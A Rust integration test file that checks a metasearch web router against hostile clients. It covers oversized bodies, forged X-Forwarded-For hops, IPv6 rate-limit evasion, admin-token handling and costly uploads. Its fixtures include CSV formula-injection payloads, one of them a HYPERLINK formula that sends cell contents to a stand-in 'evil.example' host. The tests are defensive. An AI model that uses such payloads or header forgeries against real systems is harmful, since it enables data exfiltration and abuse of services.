//! Hostile clients against the real router (#12): a body over the limit
//! asking for JSON, engine titles that are spreadsheet formulas in
//! `format=csv`, forged `X-Forwarded-For` hops and IPv6 address hopping
//! against the rate limit, an empty configuration by reload, a trailing
//! newline in the admin token, and `/lab` uploads that cost quadratic CPU
//! (too many pairs, too many runs; a client that leaves mid-sweep is
//! `tests/lab_abandoned.rs`, alone in its process).

#[path = "support/lab_upload.rs"]
mod lab_upload;
#[path = "support/mod.rs"]
mod support;

use std::net::SocketAddr;
use std::path::Path;

use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{Request, StatusCode, header};
use http_body_util::BodyExt;
use metasift::config::Config;
use metasift::web::{self, AppState};
use support::LoopbackEngine;
use tower::ServiceExt;

/// A config over one searxng-kind engine at `base`, plus `extra` tables.
fn config_text(base: &str, extra: &str) -> String {
    format!(
        // The whole configuration, not laid over the built-in engines.
        "use_defaults = false\n{extra}\n[[engine]]\nname = \"e\"\nkind = \"searxng\"\n\
         url = \"{base}/search?q={{query}}\"\ntimeout_ms = 1500\n"
    )
}

fn app_with(base: &str, extra: &str) -> axum::Router {
    let config = Config::parse(&config_text(base, extra), Path::new("t.toml")).unwrap();
    web::router(AppState::serving(config, None, None).unwrap())
}

async fn send(app: &axum::Router, req: Request<Body>) -> (StatusCode, header::HeaderMap, String) {
    let resp = app.clone().oneshot(req).await.unwrap();
    let (parts, body) = resp.into_parts();
    let bytes = body.collect().await.unwrap().to_bytes();
    (
        parts.status,
        parts.headers,
        String::from_utf8_lossy(&bytes).into_owned(),
    )
}

#[tokio::test]
async fn a_body_over_the_limit_is_refused_in_json_when_json_was_asked() {
    let app = app_with("http://127.0.0.1:9", "");
    let big = format!("q={}", "a".repeat(300 * 1024));
    let req = Request::post("/search?format=json")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(big))
        .unwrap();
    let (status, headers, body) = send(&app, req).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    assert!(
        headers[header::CONTENT_TYPE]
            .to_str()
            .unwrap()
            .starts_with("application/json"),
        "{headers:?}"
    );
    let json: serde_json::Value = serde_json::from_str(&body).expect("a JSON error body");
    assert!(
        json["error"].as_str().unwrap().contains("larger than"),
        "{json}"
    );
}

#[tokio::test]
async fn csv_cells_from_engines_cannot_be_formulas() {
    let engine = LoopbackEngine::spawn(support::test_page(&[
        (
            "https://a.example/1",
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "+SUM(1,2)",
        ),
        ("https://b.example/2", "@cmd", "-2+3 is a formula too"),
    ]))
    .await;
    let app = app_with(&engine.base_url(), "");
    let req = Request::get("/search?q=formula&format=csv")
        .body(Body::empty())
        .unwrap();
    let (status, _, text) = send(&app, req).await;
    assert_eq!(status, StatusCode::OK, "{text}");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let mut cells = 0;
    for row in reader.records() {
        for cell in row.unwrap().iter() {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell: {cell:?}\n{text}"
            );
        }
    }
    assert!(cells >= 14, "{text}");
    assert!(text.contains("'=HYPERLINK("), "{text}");
    assert!(text.contains("'@cmd"), "{text}");
}

/// A `/search` from `peer` with these `X-Forwarded-For` headers.
fn search_from(peer: &str, xff: &[&str]) -> Request<Body> {
    let mut req = Request::get("/search?q=limits&format=json");
    for h in xff {
        req = req.header("x-forwarded-for", *h);
    }
    let mut req = req.body(Body::empty()).unwrap();
    req.extensions_mut()
        .insert(ConnectInfo(peer.parse::<SocketAddr>().unwrap()));
    req
}

#[tokio::test]
async fn forged_forwarded_hops_and_ipv6_neighbours_share_one_budget() {
    let engine =
        LoopbackEngine::spawn(support::test_page(&[("https://a.example/1", "A", "a")])).await;
    let app = app_with(
        &engine.base_url(),
        // No cache: a cached answer is refunded (issue #15), and this test
        // is about who pays, not about what is cached.
        "[limits]\nper_minute = 1\nburst = 1\ntrust_forwarded = true\n[cache]\nttl_s = 0",
    );
    // Behind a proxy on this host that appends the address it saw: the
    // client writes a new first hop every time, the proxy's hop is its own.
    let (status, _, body) = send(
        &app,
        search_from("127.0.0.1:40001", &["1.1.1.1, 198.51.100.9"]),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (status, _, _) = send(
        &app,
        search_from("127.0.0.1:40002", &["2.2.2.2, 198.51.100.9"]),
    )
    .await;
    assert_eq!(
        status,
        StatusCode::TOO_MANY_REQUESTS,
        "a forged first hop made a new client"
    );
    // Another real client is not affected.
    let (status, _, _) = send(
        &app,
        search_from("127.0.0.1:40003", &["1.1.1.1, 198.51.100.10"]),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    // A client that is not the proxy cannot name anyone.
    let (status, _, _) = send(&app, search_from("203.0.113.5:5000", &["198.51.100.77"])).await;
    assert_eq!(status, StatusCode::OK);
    let (status, _, _) = send(&app, search_from("203.0.113.5:5001", &["198.51.100.78"])).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    // An IPv6 client hopping addresses inside its /48.
    let (status, _, _) = send(&app, search_from("[2001:db8:7:1::1]:1", &[])).await;
    assert_eq!(status, StatusCode::OK);
    let (status, _, _) = send(&app, search_from("[2001:db8:7:ffff::2]:1", &[])).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test]
async fn reload_refuses_an_empty_file_and_a_token_with_a_newline_still_works() {
    let engine =
        LoopbackEngine::spawn(support::test_page(&[("https://a.example/1", "A", "a")])).await;
    let dir = support::fresh_dir("hostile-web-reload");
    let path = dir.join("engines.toml");
    std::fs::write(&path, config_text(&engine.base_url(), "")).unwrap();
    let config = Config::load(&path).unwrap();
    // As read from a secrets file: a final newline.
    let state = AppState::serving(config, Some(path.clone()), Some("s3cret\n".into())).unwrap();
    let app = web::router(state.clone());
    let reload = || {
        Request::post("/admin/reload")
            .header(header::AUTHORIZATION, "Bearer s3cret")
            .body(Body::empty())
            .unwrap()
    };
    let (status, _, body) = send(&app, reload()).await;
    assert_eq!(status, StatusCode::OK, "the token matches: {body}");

    // Empty on its own (an empty file laid over the built-in defaults is
    // the defaults, a working configuration: issue #15).
    std::fs::write(&path, "use_defaults = false\n").unwrap();
    let (status, _, body) = send(&app, reload()).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert!(
        body.contains(&format!("{}:1:", path.display())) && body.contains("no engine"),
        "{body}"
    );
    // The running engines stay.
    assert_eq!(state.searcher().config().engines.len(), 1);

    // An empty token turns the route off.
    let config = Config::parse(&config_text(&engine.base_url(), ""), &path).unwrap();
    let off = web::router(AppState::serving(config, Some(path), Some(" \n".into())).unwrap());
    let (status, _, _) = send(
        &off,
        Request::post("/admin/reload")
            .header(header::AUTHORIZATION, "Bearer ")
            .body(Body::empty())
            .unwrap(),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

fn lab_request(peer: &str, fields: &[(&str, &str)], file: &[u8]) -> Request<Body> {
    let mut req = Request::post("/lab")
        .header(header::CONTENT_TYPE, lab_upload::content_type())
        .body(Body::from(lab_upload::body(fields, "sets.jsonl", file)))
        .unwrap();
    req.extensions_mut()
        .insert(ConnectInfo(peer.parse::<SocketAddr>().unwrap()));
    req
}

#[tokio::test]
async fn lab_refuses_a_set_of_quadratic_cost_naming_it() {
    let app = app_with("http://127.0.0.1:9", "");
    // 2,001 records are under the record cap (20,000) but one set of them
    // is 2,001,000 pairs per setting.
    let (status, _, page) = send(
        &app,
        lab_request("192.0.2.1:1", &[], &lab_upload::record_set("giant", 2001)),
    )
    .await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{page}");
    assert!(page.contains("2001000 record pairs"), "{page}");
    assert!(
        page.contains("&quot;giant&quot;")
            || page.contains("&#34;giant&#34;")
            || page.contains("\"giant\""),
        "{page}"
    );
}

#[tokio::test]
async fn lab_sweeps_are_rate_limited_per_client_and_50_points_are_accepted() {
    let app = app_with(
        "http://127.0.0.1:9",
        "[limits]\nlab_per_minute = 1\nlab_burst = 2",
    );
    let small = lab_upload::record_set("small", 20);
    // A 50-point sweep counted after rounding: accepted.
    let fields = [
        ("from", "0"),
        ("to", "1"),
        ("step", "0.0204"),
        ("method", "feature-code"),
    ];
    let (status, _, page) = send(&app, lab_request("192.0.2.7:1", &fields, &small)).await;
    assert_eq!(status, StatusCode::OK, "{page}");
    let (status, _, _) = send(&app, lab_request("192.0.2.7:2", &fields, &small)).await;
    assert_eq!(status, StatusCode::OK);
    let (status, headers, page) = send(&app, lab_request("192.0.2.7:3", &fields, &small)).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{page}");
    assert!(headers.contains_key(header::RETRY_AFTER));
    assert!(page.contains("lab runs"), "{page}");
    // Another client still may; the form itself is never limited.
    let (status, _, _) = send(&app, lab_request("192.0.2.8:1", &fields, &small)).await;
    assert_eq!(status, StatusCode::OK);
    let mut form = Request::get("/lab").body(Body::empty()).unwrap();
    form.extensions_mut()
        .insert(ConnectInfo("192.0.2.7:4".parse::<SocketAddr>().unwrap()));
    assert_eq!(send(&app, form).await.0, StatusCode::OK);
}
